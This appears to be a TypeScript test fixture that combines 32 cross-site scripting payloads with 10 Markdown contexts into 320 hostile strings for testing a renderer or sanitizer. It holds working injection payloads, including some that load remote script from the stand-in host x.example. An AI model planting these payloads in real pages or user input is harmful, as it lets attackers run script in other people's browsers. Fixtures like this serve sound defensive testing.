/*
 * Texts that try to run a script on the page which shows them: every payload in every place where Markdown, HTML, XML or JSON
 * might treat it as something else than text.
 */

const CALL = 'alert(1)';

const PAYLOADS = [
  `<script>${CALL}</script>`,
  `<SCRIPT SRC=//x.example/a.js></SCRIPT>`,
  `<scr\u0000ipt>${CALL}</scr\u0000ipt>`,
  `<script\n>${CALL}</script\n>`,
  `</script><script>${CALL}</script>`,
  `<img src=x onerror=${CALL}>`,
  `<img/src="x"/onerror="${CALL}">`,
  `<svg/onload=${CALL}>`,
  `<svg><script xlink:href="data:,${CALL}"></script></svg>`,
  `<math><mtext><style><img src onerror=${CALL}></style></mtext></math>`,
  `<iframe src="javascript:${CALL}"></iframe>`,
  `<iframe srcdoc="<script>${CALL}</script>"></iframe>`,
  `<object data="data:text/html,<script>${CALL}</script>"></object>`,
  `<a href="javascript:${CALL}">a</a>`,
  `<a href="java\tscript:${CALL}">a</a>`,
  `<form action="javascript:${CALL}"><button>a</button></form>`,
  `<details open ontoggle=${CALL}>`,
  `<body onload=${CALL}>`,
  `<base href="//x.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${CALL}">`,
  `<link rel=stylesheet href=//x.example/a.css>`,
  `<style>@import "//x.example/a.css";</style>`,
  `<!--><script>${CALL}</script>-->`,
  `<![CDATA[<script>${CALL}</script>]]>`,
  `]]><script>${CALL}</script>`,
  `" onmouseover="${CALL}" x="`,
  `' onfocus='${CALL}' autofocus x='`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `&#60;script&#62;${CALL}&#60;/script&#62;`,
  `\\u003cscript\\u003e${CALL}`,
  `javascript:${CALL}`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
];

const PLACES: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `[text](${payload})`,
  (payload) => `[text](<${payload}> "${payload}")`,
  (payload) => `![text](${payload})`,
  (payload) => `[text][a]\n\n[a]: ${payload}`,
  (payload) => `<${payload}>`,
  (payload) => `# ${payload}\n\n> ${payload}`,
  (payload) => `| ${payload} |\n|---|\n| ${payload} |`,
  (payload) => `\`\`\`${payload}\n${payload}\n\`\`\`${payload}`,
  (payload) => `- **${payload}** \`${payload}\``,
];

/** 320 texts. */
export const HOSTILE_TEXTS: readonly string[] = PLACES.flatMap((place) => PAYLOADS.map(place));
